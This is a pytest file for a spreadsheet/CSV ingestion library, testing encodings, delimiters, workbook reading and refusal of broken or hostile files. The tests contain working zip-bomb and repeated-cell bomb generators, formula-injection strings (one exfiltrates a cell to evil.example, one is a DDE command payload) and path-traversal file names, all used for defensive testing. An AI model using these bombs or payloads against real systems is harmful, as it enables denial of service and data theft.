"""kpi.ingest.io and kpi.ingest.safety: every fixture in tests/fixtures/ reads as its README says, and every
hostile or broken file ends in one InputError — fast, before any parser runs, in bounded memory.

The huge files (zip bombs, a 100-million-cell sheet, 50 MB of junk) are generated here into
tmp_path by the small functions below; nothing huge is committed.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import struct
import time
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from kpi.errors import InputError
from kpi.ingest import io as kio
from kpi.ingest import safety, sandbox
from kpi.ingest.io import Sheet, decode_text, detect_delimiter, find_header_row, read_bytes, read_path
from kpi.ingest.safety import Limits

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
DEMO = Path(__file__).resolve().parent.parent.parent / "data" / "demo"


def read(name: str, **options) -> list[Sheet]:
    return read_path(FIXTURES / name, **options)


def one(name: str, **options) -> Sheet:
    sheets = read(name, **options)
    assert len(sheets) == 1
    return sheets[0]


def refusal(name: str, data: bytes | None = None, **options) -> str:
    """The message of the InputError that reading `name` raises (from tests/fixtures/ unless
    `data` is given); fails if it reads or raises anything else."""
    with pytest.raises(InputError) as caught:
        if data is None:
            read(name, **options)
        else:
            read_bytes(name, data, **options)
    message = str(caught.value)
    assert "\n" not in message, "one line"
    assert message.startswith(Path(name).name), "the message names the file"
    return message


@pytest.fixture
def no_parser(monkeypatch):
    """Make every parser fail loudly: a refusal must come from the pre-flight checks."""

    def called(*args, **kwargs):
        raise AssertionError("a parser ran before the pre-flight check refused the file")

    monkeypatch.setattr(sandbox, "run_isolated", called)
    monkeypatch.setattr(kio, "_workbook_cells", called)
    monkeypatch.setattr(kio, "_read_with_arrow", called)
    monkeypatch.setattr(kio, "_read_with_pandas", called)
    monkeypatch.setattr(pd, "read_excel", called)
    monkeypatch.setattr(pd, "read_parquet", called)
    monkeypatch.setattr(pd, "read_csv", called)


# ── generators for the files too big to commit ───────────────────────────────────────────

SPREADSHEETML = b"application/vnd.openxmlformats-officedocument.spreadsheetml"
RELATIONSHIPS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="' + SPREADSHEETML + b'.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="' + SPREADSHEETML + b'.worksheet+xml"/>'
    b"</Types>"
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="' + RELATIONSHIPS + b'/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="' + RELATIONSHIPS + b'">'
    b'<sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="' + RELATIONSHIPS + b'/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def deflated_repeat(head: bytes, chunk: bytes, repeats: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + chunk × repeats + tail, without compressing every repeat: after a
    full flush the compressor forgets everything, so each flushed chunk compresses to the same
    bytes. Returns (deflate stream, CRC-32, inflated size)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(tail) + compressor.flush()
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return start + block * repeats + end, crc, len(head) + len(chunk) * repeats + len(tail)


def zip_of(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from already-deflated members (name, raw deflate, crc, inflated size)."""
    out, directory = io.BytesIO(), []
    for name, raw, crc, size in members:
        offset, encoded = out.tell(), name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), size, len(encoded), 0))
        out.write(encoded + raw)
        directory.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw), size,
                                     len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    out.write(b"".join(directory))
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), out.tell() - start, start, 0))
    return out.getvalue()


def deflate(data: bytes) -> tuple[bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data)


def xlsx_with_sheet(sheet: tuple[bytes, int, int]) -> bytes:
    return zip_of([("[Content_Types].xml", *deflate(CONTENT_TYPES)), ("_rels/.rels", *deflate(ROOT_RELS)),
                   ("xl/workbook.xml", *deflate(WORKBOOK)), ("xl/_rels/workbook.xml.rels", *deflate(WORKBOOK_RELS)),
                   ("xl/worksheets/sheet1.xml", *sheet)])


def zip_bomb_xlsx(inflated: int = 1_500_000_000) -> bytes:
    """≈5 MB of XLSX whose one sheet inflates to 1.5 GB of rows (no <dimension>): the file that
    makes python-calamine abort the whole process on a failed allocation."""
    row = b'<row><c t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAA</t></is></c><c><v>1</v></c></row>'
    chunk = row * (1_000_000 // len(row))
    return xlsx_with_sheet(deflated_repeat(SHEET_HEAD + b"<sheetData>", chunk, inflated // len(chunk),
                                           b"</sheetData></worksheet>"))


def hundred_million_cell_xlsx() -> bytes:
    """A real 100-million-cell sheet: declares A1:CV1000000 and holds 1,000,000 rows of 100
    cells (1.5 GB of XML, ≈5 MB zipped)."""
    row = b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>"
    rows_per_chunk = 1000
    head = SHEET_HEAD + b'<dimension ref="A1:CV1000000"/><sheetData>'
    return xlsx_with_sheet(deflated_repeat(head, row * rows_per_chunk, 1_000_000 // rows_per_chunk,
                                           b"</sheetData></worksheet>"))


def ods_repeat_bomb(cell: str = '<table:table-cell table:number-columns-repeated="1000" office:value-type="float" '
                                  'office:value="1"><text:p>1</text:p></table:table-cell>') -> bytes:
    """A tiny ODS whose one filled cell is repeated 1000 columns × 1,000,000 rows."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="Bomb"><table:table-row table:number-rows-repeated="1000000">'
        + cell + "</table:table-row></table:table>"
        "</office:spreadsheet></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet",
                         compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    return zip_bomb_xlsx()


def peak_memory(action) -> int:
    """Peak bytes Python allocated while `action` ran."""
    tracemalloc.start()
    try:
        action()
    except InputError:
        pass
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak


# ── CSV and friends: encodings ────────────────────────────────────────────────────────────

def test_french_cp1252_export_reads_accents_title_row_and_totals_row():
    sheet = one("fr_abonnements_cp1252.csv")
    assert list(sheet.frame.columns) == ["ID client", "Date de début", "Montant HT (€)", "Périodicité", "Remise"]
    assert sheet.header_row == 3  # "Export du 03/02/2025" and a blank line above
    assert sheet.frame.index[0] == 4
    assert sheet.frame.loc[4, "ID client"] == "C0001"
    assert sheet.frame.iloc[-1]["ID client"] == "Total"  # kept: the mapping layer rejects it
    assert sheet.frame.iloc[-1]["Montant HT (€)"] == "12 345,50"  # text, for kpi.ingest.parse


def test_utf8_bom_is_not_part_of_the_first_header():
    assert one("fr_clients_utf8_bom.csv").frame.columns[0] == "Nom"


def test_cp1252_non_breaking_space_thousands_separator_is_kept_as_text():
    values = one("fr_mrr_nbsp_cp1252.csv").frame["MRR (€)"]
    assert values.str.contains("\u00a0").any()


def test_latin1_file_with_a_byte_cp1252_leaves_undefined_reads():
    sheet = one("latin1_undefined_byte.csv")
    assert list(sheet.frame.columns) == ["code", "libellé"]
    assert sheet.frame.loc[3, "libellé"] == "crème brûlée"


@pytest.mark.parametrize("name", ["utf16_le_bom.txt", "utf16_be_nobom.csv", "utf16_le_nobom.tsv"])
def test_utf16_with_or_without_bom_reads(name):
    sheet = one(name)
    assert list(sheet.frame.columns) == ["customer_id", "name", "mrr"]
    assert sheet.frame["name"].tolist() == ["Élodie Durand", "Zoë Lemaître"]
    assert sheet.frame["mrr"].tolist() == ["99,00", "1 234,50"]


def test_decode_text_keeps_its_contract():
    assert decode_text("a.csv", "é;b\n".encode("cp1252")) == "é;b\n"
    assert decode_text("a.csv", "\ufeffé;b\n".encode()) == "é;b\n"
    assert decode_text("a.csv", "é;b\n".encode("utf-16")) == "é;b\n"


# ── delimiters, quoting, shapes ───────────────────────────────────────────────────────────

@pytest.mark.parametrize("name, columns", [
    ("tab_separated.tsv", ["customer_id", "signed_up", "plan"]),
    ("pipe_separated.txt", ["customer_id", "month", "mrr"]),
    ("intercom_conversations.tsv", ["Conversation ID", "User ID", "Created at", "First response at", "Closed at",
                                     "State", "Conversation rating"]),
    ("costs_by_category_fr.csv", ["Mois", "Marketing", "Ventes", "Support client", "Hébergement", "Divers"]),
])
def test_semicolon_tab_and_pipe_delimiters_are_detected(name, columns):
    assert list(one(name).frame.columns) == columns


def test_decimal_commas_do_not_make_the_comma_the_delimiter():
    assert detect_delimiter("a;b;c;d\n1,5;2,5;3,5;4\n6,5;7,5;8,5;9\n") == ";"
    assert detect_delimiter('a,b\n"1,5","2,5"\n') == ","
    assert detect_delimiter("x\n") == ","


def test_a_pipe_inside_one_cell_does_not_make_the_pipe_the_delimiter():
    sheet = one("formula_injection.csv")
    assert list(sheet.frame.columns) == ["name", "comment"]


def test_excel_sep_hint_sets_the_delimiter():
    sheet = one("sep_hint.csv")
    assert list(sheet.frame.columns) == ["id", "comment"]
    assert sheet.frame["comment"].tolist() == ["a, b and c", "d, e"]


def test_quoted_fields_keep_their_newlines_delimiters_and_quotes():
    sheet = one("quoted_newlines.csv")
    assert sheet.frame["note"].tolist() == ['Call back Monday,\nask for "Paul"', "Line one\r\nLine two; with semicolon",
                                           "plain"]
    assert sheet.frame.index.tolist() == [2, 3, 4]  # records, as a spreadsheet numbers them


def test_title_rows_and_blank_lines_are_skipped_but_row_numbers_stay_the_files():
    sheet = one("blank_lines_and_titles.csv")
    assert sheet.header_row == 5
    assert sheet.frame.index.tolist() == [6, 8, 9, 12]
    assert sheet.frame["customer_id"].tolist() == ["c1", "c2", "c1", "c3"]


def test_only_headers_is_a_sheet_with_no_rows_not_an_error():
    sheet = one("only_headers.csv")
    assert list(sheet.frame.columns) == ["ID client", "Date de début", "Montant HT (€)", "Périodicité"]
    assert len(sheet.frame) == 0


def test_rows_longer_than_the_header_are_kept_and_reported():
    sheet = one("ragged_rows.csv")
    assert sheet.frame.index.tolist() == [2, 3, 4, 5]
    assert sheet.frame.loc[3].tolist()[:4] == ["2", "Globex", "1", "234.00"]
    assert sheet.frame.loc[5, "column 5"] == "extra"
    assert len(sheet.warnings) == 1 and "rows 3, 5" in sheet.warnings[0]


def test_short_rows_are_padded_without_a_warning():
    sheet = one("short_rows.csv")
    assert sheet.frame.loc[3, "name"] == "Globex" and pd.isna(sheet.frame.loc[3, "amount"])
    assert sheet.warnings == ()


def test_trailing_delimiters_add_no_column():
    assert list(one("trailing_delimiters.csv").frame.columns) == ["id", "amount"]


def test_every_cell_of_a_text_file_stays_text():
    frame = one("stripe_subscriptions.csv").frame
    assert all(pd.api.types.is_string_dtype(frame[c]) for c in frame.columns)
    assert frame["Amount"].iloc[0].endswith(".00")


def test_formula_injection_strings_read_as_plain_text():
    frame = one("formula_injection.csv").frame
    assert frame["comment"].tolist() == ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1-2", "-3+4",
                                         "=cmd|' /C calc'!A0"]


def test_crlf_and_single_column_files_read():
    assert one("crlf_windows.csv").frame["amount"].tolist() == ["10", "20"]
    assert one("single_column.csv").frame["email"].tolist() == ["ann@example.com", "bob@example.com"]


@pytest.mark.parametrize("name, rows, first_columns", [
    ("stripe_subscriptions.csv", 80, ["id", "Customer ID", "Customer Email", "Plan"]),
    ("chargebee_subscriptions.csv", 60, ["subscriptions.id", "subscriptions.customer_id"]),
    ("paddle_subscriptions.csv", 60, ["subscription_id", "user_id", "user_email"]),
    ("hubspot_companies.csv", 50, ["Record ID", "Company name", "Create Date"]),
    ("us_subscriptions.csv", 50, ["Customer", "Plan", "Start Date", "MRR"]),
    ("typeform_nps.csv", 80, ["#", "How likely are you to recommend Plumeo to a friend or colleague?"]),
    ("delighted_nps.csv", 70, ["Response ID", "Email", "Score", "Comment"]),
    ("zendesk_tickets.csv", 60, ["Id", "Requester", "Subject", "Status"]),
    ("mixpanel_events.csv", 300, ["event", "distinct_id", "time", "$city"]),
    ("segment_events_pipe.txt", 200, ["messageId", "userId", "event", "timestamp", "properties"]),
    ("ecommerce_orders.csv", 250, ["InvoiceNo", "StockCode", "Description", "Quantity"]),
    ("costs_long.csv", 48, ["month", "category", "amount"]),
    ("mrr_wide_iso.csv", 25, ["Customer", "2024-01", "2024-02"]),
    ("mrr_wide_en.csv", 25, ["Customer", "Jan 2024", "Feb 2024"]),
    ("mrr_wide_fr.csv", 25, ["Client", "janv. 2024", "févr. 2024"]),
    ("mrr_wide_slash.csv", 25, ["Client", "01/2024", "02/2024"]),
])
def test_tool_exports_read_with_their_headers_and_every_row(name, rows, first_columns):
    sheet = one(name)
    assert list(sheet.frame.columns[: len(first_columns)]) == first_columns
    assert len(sheet.frame) == rows
    assert sheet.header_row == 1 and sheet.frame.index[0] == 2
    assert sheet.warnings == ()


def test_us_dollar_amounts_with_thousands_commas_stay_whole():
    assert one("us_subscriptions.csv").frame["MRR"].str.startswith("$").all()


def test_multiline_ticket_descriptions_stay_in_their_row():
    frame = one("zendesk_tickets.csv").frame
    assert frame["Description"].iloc[0] == "Bonjour,\nl'export ne marche pas.\n\nMerci ; Camille"
    assert frame.index.tolist() == list(range(2, 62))


def test_an_unclosed_quote_is_refused_with_its_row_instead_of_swallowing_the_file():
    with pytest.raises(InputError) as caught:
        read_bytes("notes.csv", b'id,note\n1,fine\n2,"oops\n3,lost\n4,lost\n')
    assert caught.value.row == 3 and "never closed" in caught.value.message


def test_a_quote_inside_an_unquoted_cell_is_just_a_character():
    assert one_of(b'item,size\ntv,5" screen\nlamp,1\n')["size"].tolist() == ['5" screen', "1"]


def one_of(data: bytes, name: str = "inline.csv") -> pd.DataFrame:
    return read_bytes(name, data)[0].frame


@pytest.mark.parametrize("path", sorted(p for p in FIXTURES.iterdir() if p.suffix in kio.TEXT_SUFFIXES),
                         ids=lambda p: p.name)
def test_a_mapped_file_and_its_bytes_read_the_same(path):
    """read_path memory-maps text files; read_bytes gets an upload's bytes: same result."""
    def outcome(read_it):
        try:
            sheet = read_it()[0]
        except InputError as exc:
            return str(exc)
        return sheet

    mapped, uploaded = outcome(lambda: read_path(path)), outcome(lambda: read_bytes(path.name, path.read_bytes()))
    if isinstance(mapped, str) or isinstance(uploaded, str):
        assert mapped == uploaded
    else:
        pd.testing.assert_frame_equal(mapped.frame, uploaded.frame)
        assert (mapped.header_row, mapped.warnings) == (uploaded.header_row, uploaded.warnings)


def test_a_clean_big_csv_takes_the_arrow_path(tmp_path, monkeypatch):
    path = tmp_path / "big.csv"
    rows = "\n".join(f"cus_{i},2024-01-{i % 28 + 1:02d},{i % 500}.50,month" for i in range(200_000))
    path.write_text("Customer ID,Start Date,Amount,Interval\n" + rows + "\n")

    def slow_path(*args, **kwargs):
        raise AssertionError("a well-formed file should not need the C parser")

    monkeypatch.setattr(kio, "_read_with_pandas", slow_path)
    sheet = read_path(path)[0]
    assert sheet.frame.shape == (200_000, 4)
    assert sheet.frame.index[-1] == 200_001


def test_a_cp1252_byte_after_the_sample_still_switches_the_encoding(tmp_path):
    body = "".join(f"c{i};{i}\n" for i in range(20_000))  # ≈ 200 KB of ASCII, then one 'é' in cp1252
    data = ("id;mrr\n" + body + "café;1\n").encode("cp1252")
    sheet = read_bytes("late.csv", data)
    assert sheet[0].frame["id"].iloc[-1] == "café"


# ── workbooks ─────────────────────────────────────────────────────────────────────────────

def test_every_sheet_of_a_workbook_is_read_and_empty_ones_are_skipped():
    sheets = {sheet.sheet: sheet for sheet in read("workbook_topics.xlsx")}
    assert list(sheets) == ["Clients", "Abonnements", "NPS"]  # "Notes" is empty
    assert sheets["Clients"].key == "workbook_topics.xlsx:Clients"


def test_workbook_title_row_is_skipped_and_dates_stay_dates():
    sheet = {s.sheet: s for s in read("workbook_topics.xlsx")}["Abonnements"]
    assert sheet.header_row == 3
    assert list(sheet.frame.columns) == ["ID client", "Date de début", "Date de fin", "Montant HT (€)", "Périodicité"]
    assert isinstance(sheet.frame["Date de début"].iloc[0], (dt.datetime, pd.Timestamp))
    assert sheet.frame.index[0] == 4


def test_formula_looking_text_in_a_workbook_stays_text():
    nps = {s.sheet: s for s in read("workbook_topics.xlsx")}["NPS"].frame
    assert "=1+1 is not a formula here" in set(nps["Commentaire"].dropna())


def test_xlsm_ods_xls_and_xlsx_renamed_xls_read():
    assert [s.sheet for s in read("workbook_macro.xlsm")] == ["Clients", "Abonnements", "NPS"]
    ods = read("libreoffice_export.ods")
    assert [(s.sheet, len(s.frame)) for s in ods] == [("Clients", 15), ("MRR", 30)]
    legacy = one("legacy_clients.xls")
    assert list(legacy.frame.columns) == ["ID client", "Nom", "Date d'inscription", "MRR"]
    assert isinstance(legacy.frame["Date d'inscription"].iloc[0], (dt.datetime, pd.Timestamp))
    assert [s.sheet for s in read("xlsx_renamed.xls")] == ["MRR", "MRR texte"]


def test_wide_mrr_month_headers_from_date_cells_read_as_iso_dates():
    sheet = {s.sheet: s for s in read("mrr_wide.xlsx")}
    assert list(sheet["MRR"].frame.columns[:3]) == ["Client", "2024-01-01", "2024-02-01"]
    assert list(sheet["MRR texte"].frame.columns) == ["Client", "Jan 2024", "2024-02", "mars 2024", "04/2024"]


def test_workbook_without_declared_dimension_reads():
    assert one("no_dimension.xlsx").frame.shape == (200, 3)


def test_a_far_too_wide_declared_range_over_a_small_sheet_is_read_not_refused():
    sheet = one("declared_range_too_wide.xlsx")
    assert sheet.frame["customer_id"].tolist() == ["c1", "c2"]


def test_workbook_with_only_headers_has_no_rows():
    sheet = one("only_headers.xlsx")
    assert list(sheet.frame.columns) == ["ID client", "Montant"] and len(sheet.frame) == 0


def test_trusted_workbooks_are_read_in_process(monkeypatch):
    def isolated(*args, **kwargs):
        raise AssertionError("trusted files skip the sandbox")

    monkeypatch.setattr(sandbox, "run_isolated", isolated)
    sheets = read_path(DEMO / "finance.xlsx", trusted=True)
    assert [s.sheet for s in sheets] == ["Coûts mensuels", "CSAT", "CES", "Budget 2026"]


def test_sandboxed_and_in_process_reads_agree():
    for name in ["workbook_topics.xlsx", "libreoffice_export.ods", "legacy_clients.xls"]:
        isolated, trusted = read(name), read(name, trusted=True)
        assert [s.key for s in isolated] == [s.key for s in trusted]
        for a, b in zip(isolated, trusted, strict=True):
            pd.testing.assert_frame_equal(a.frame, b.frame)


def test_the_sandbox_peak_belongs_to_the_last_read_only():
    """A workbook refused before any child runs reports no child's peak (not the previous read's)."""
    read("workbook_topics.xlsx")
    assert sandbox.last_sandbox_peak_rss() > 0
    with pytest.raises(InputError, match="inflates"):
        read_bytes("bomb.xlsx", zip_bomb_xlsx())
    assert sandbox.last_sandbox_peak_rss() is None


# ── Parquet ───────────────────────────────────────────────────────────────────────────────

def test_parquet_keeps_its_types_and_numbers_rows_from_two():
    sheet = one("mrr_long.parquet")
    assert list(sheet.frame.columns) == ["customer_id", "month", "mrr", "plan"]
    assert pd.api.types.is_datetime64_any_dtype(sheet.frame["month"])
    assert sheet.frame.index[0] == 2 and len(sheet.frame) == 120


def test_parquet_with_more_cells_than_the_limit_is_refused_from_its_metadata(no_parser):
    message = refusal("mrr_long.parquet", (FIXTURES / "mrr_long.parquet").read_bytes(), limits=Limits(max_cells=100))
    assert "480 cells" in message and "120 rows × 4 columns" in message


# ── broken files: one clear message each ──────────────────────────────────────────────────

@pytest.mark.parametrize("name, expected", [
    ("empty.csv", "the file is empty"),
    ("whitespace_only.csv", "the file is empty"),
    ("empty.xlsx", "the file is empty"),
    ("binary_junk.csv", "not a text file"),
    ("png_renamed.csv", "it is a PNG image"),
    ("xlsx_renamed.csv", "rename it .xlsx"),
    ("truncated.xlsx", "corrupt"),
    ("corrupt_sheet_data.xlsx", "corrupt"),
    ("empty_zip.xlsx", "empty ZIP archive"),
    ("docx_renamed.xlsx", "not a spreadsheet"),
    ("password_protected.xlsx", "password-protected: remove the password"),
    ("word97_renamed.xls", "not an Excel workbook"),
    ("html_renamed.xls", "web page (HTML)"),
    ("tsv_renamed.xls", "rename it .csv"),
    ("truncated.parquet", "truncated or damaged"),
    ("all_sheets_empty.xlsx", "every sheet of this workbook is empty"),
])
def test_broken_files_end_in_one_clear_message(name, expected):
    started = time.perf_counter()
    assert expected in refusal(name)
    assert time.perf_counter() - started < 15  # no hang (the first workbook also starts the sandbox's helper)


@pytest.mark.parametrize("name", ["binary_junk.csv", "png_renamed.csv", "xlsx_renamed.csv", "truncated.xlsx",
                                  "corrupt_sheet_data.xlsx", "empty_zip.xlsx", "docx_renamed.xlsx",
                                  "password_protected.xlsx", "word97_renamed.xls", "html_renamed.xls",
                                  "tsv_renamed.xls", "truncated.parquet"])
def test_broken_files_are_refused_before_any_parser_runs(name, no_parser):
    refusal(name)


def test_a_workbook_the_reader_cannot_parse_is_reported_from_the_sandbox():
    message = refusal("corrupt_styles.xlsx")  # passes the pre-flight: only the parser sees the damage
    assert "cannot read this workbook" in message


def test_unsupported_suffix_is_refused():
    assert "unsupported file type '.pdf'" in refusal("report.pdf", b"%PDF-1.7")


# ── hostile files ─────────────────────────────────────────────────────────────────────────

def test_zip_bomb_is_refused_fast_in_bounded_memory_before_any_parser(zip_bomb, no_parser):
    assert len(zip_bomb) < 8_000_000
    started = time.perf_counter()
    message = refusal("bomb.xlsx", zip_bomb)
    assert time.perf_counter() - started < 1  # milliseconds, with room for a busy CI machine
    assert "zip bomb" in message and "1.5 GB" in message
    assert peak_memory(lambda: read_bytes("bomb.xlsx", zip_bomb)) < 2_000_000


def test_hundred_million_cell_sheet_is_refused_from_its_declared_range(no_parser):
    data = hundred_million_cell_xlsx()
    started = time.perf_counter()
    message = refusal("huge.xlsx", data)
    assert time.perf_counter() - started < 1  # milliseconds, with room for a busy CI machine
    assert "100,000,000 cells (range A1:CV1000000)" in message and message.startswith("huge.xlsx:Data:")
    assert peak_memory(lambda: read_bytes("huge.xlsx", data)) < 2_000_000


def test_ods_repeated_cells_bomb_is_refused(no_parser):
    message = refusal("bomb.ods", ods_repeat_bomb())
    assert "cells" in message and "repeated" in message
    valued_in_attributes = ('<table:table-cell table:number-columns-repeated="1000" office:value-type="float" '
                            'office:value="1"/>')
    assert "repeated" in refusal("bomb.ods", ods_repeat_bomb(valued_in_attributes))


def test_workbook_over_the_uncompressed_limit_is_refused(no_parser):
    data = (FIXTURES / "workbook_topics.xlsx").read_bytes()
    assert "inflates to" in refusal("book.xlsx", data, limits=Limits(max_uncompressed_bytes=10_000))


def test_workbook_with_too_many_parts_is_refused(no_parser):
    data = (FIXTURES / "workbook_topics.xlsx").read_bytes()
    assert "parts" in refusal("book.xlsx", data, limits=Limits(max_members=5))


def test_sheet_without_declared_range_is_bounded_by_its_size(no_parser):
    data = (FIXTURES / "no_dimension.xlsx").read_bytes()
    assert "declares no range" in refusal("book.xlsx", data, limits=Limits(max_workbook_cells=10))


def test_zip_encrypted_members_are_refused_as_password_protected(no_parser):
    data = bytearray((FIXTURES / "only_headers.xlsx").read_bytes())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # local headers, central directory
        position = data.find(signature)
        while position >= 0:
            data[position + flag_offset] |= 0x01
            position = data.find(signature, position + 4)
    assert "password-protected" in refusal("locked.xlsx", bytes(data))


def test_encrypted_legacy_xls_is_refused_as_password_protected(no_parser):
    data = bytearray((FIXTURES / "legacy_clients.xls").read_bytes())
    start, _ = safety.cfb_stream_names(bytes(data))["Workbook"]
    offset = (start + 1) * 512
    kind, length = struct.unpack_from("<HH", data, offset)
    assert kind == 0x0809  # BOF
    struct.pack_into("<H", data, offset + 4 + length, 0x002F)  # the next record becomes FILEPASS
    assert "password-protected" in refusal("locked.xls", bytes(data))


def test_fifty_megabytes_of_junk_named_csv_is_refused_in_milliseconds(no_parser):
    junk = np.random.default_rng(7).bytes(50_000_000)
    started = time.perf_counter()
    assert "not a text file" in refusal("junk.csv", junk)
    assert time.perf_counter() - started < 1  # milliseconds, with room for a busy CI machine
    assert peak_memory(lambda: read_bytes("junk.csv", junk)) < 1_000_000


def test_csv_with_too_many_cells_is_refused_from_a_sample(tmp_path, no_parser):
    path = tmp_path / "events.csv"
    with path.open("w") as out:
        out.write("user_id,timestamp,event,city,plan,device,browser,country\n")
        out.writelines(f"u{i},2024-05-01T10:00:{i % 60:02d},login,Paris,pro,desktop,firefox,FR\n"
                       for i in range(300_000))
    message = refusal("events.csv", path.read_bytes(), limits=Limits(max_cells=1_000_000))
    assert "about 2," in message  # 2.4 million cells, estimated from the first 64 KB


def test_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path, monkeypatch):
    path = tmp_path / "huge.csv"
    with path.open("wb") as out:
        out.truncate(300_000_000)  # sparse: no disk used

    def read_all(self):
        raise AssertionError("read_path must check the size first")

    monkeypatch.setattr(Path, "read_bytes", read_all)
    with pytest.raises(InputError, match="300 MB, more than the 200 MB"):
        read_path(path)


def test_a_path_in_the_name_is_only_a_label():
    data = (FIXTURES / "path_traversal.csv").read_bytes()
    for name in ["../../etc/passwd.csv", "..\\..\\Windows\\system32\\passwd.csv", "/etc/passwd.csv"]:
        sheet = read_bytes(name, data)[0]
        assert sheet.file == "passwd.csv"
        assert sheet.frame["shell"].tolist() == ["/bin/zsh"]  # our bytes, never the file at that path
    assert read_bytes("evil\nname.csv", data)[0].file == "evilname.csv"
    with pytest.raises(InputError, match="unsupported file type"):
        read_bytes("../..", data)


# ── the sandbox ───────────────────────────────────────────────────────────────────────────

def abort_work(data: bytes) -> None:
    os.abort()  # what python-calamine does when an allocation fails


def sleep_work(data: bytes) -> None:
    time.sleep(60)


def allocate_work(data: bytes) -> bytes:
    return bytes(4 * 2**30)


def echo_work(data: bytes) -> bytes:
    return data[::-1]


def test_a_reader_that_aborts_becomes_an_input_error_and_this_process_survives():
    with pytest.raises(InputError, match="could not be read safely: the reader crashed"):
        sandbox.run_isolated("x.xlsx", abort_work, b"data")
    assert sandbox.run_isolated("x.xlsx", echo_work, b"abc") == b"cba"


def test_a_reader_that_hangs_is_stopped_at_the_timeout():
    started = time.perf_counter()
    with pytest.raises(InputError, match="took more than 1 s"):
        sandbox.run_isolated("x.xlsx", sleep_work, b"", Limits(child_timeout_seconds=1))
    assert time.perf_counter() - started < 5


def test_a_reader_over_the_memory_limit_fails_cleanly():
    with pytest.raises(InputError, match="more than the 1 GB of memory"):
        sandbox.run_isolated("x.xlsx", allocate_work, b"", Limits(child_memory_bytes=safety.GB))


def test_calamine_on_a_zip_bomb_cannot_take_the_process_down(zip_bomb, monkeypatch):
    """Without the pre-flight check, python-calamine runs into the sandbox's memory limit (it
    aborts, or reports a failed allocation): either way one InputError, and we carry on."""
    monkeypatch.setattr(safety, "check_workbook", lambda *args, **kwargs: "xlsx")
    with pytest.raises(InputError, match="could not be read safely"):
        read_bytes("bomb.xlsx", zip_bomb, limits=Limits(child_memory_bytes=safety.GB, child_timeout_seconds=120))
    assert [s.sheet for s in read("workbook_topics.xlsx")] == ["Clients", "Abonnements", "NPS"]


# ── the public API stays compatible ───────────────────────────────────────────────────────

def test_sheet_still_builds_from_four_positional_fields():
    sheet = Sheet("a.csv", None, pd.DataFrame({"x": [1]}), 1)
    assert sheet.key == "a.csv" and sheet.warnings == ()


def test_find_header_row_skips_title_rows_and_numbers_written_as_text():
    cells = pd.DataFrame([["Export du 03/02/2025", None, None], [None, None, None], ["id", "date", "amount"],
                          ["1", "03/02/2025", "12,50"]])
    assert find_header_row(cells) == 2
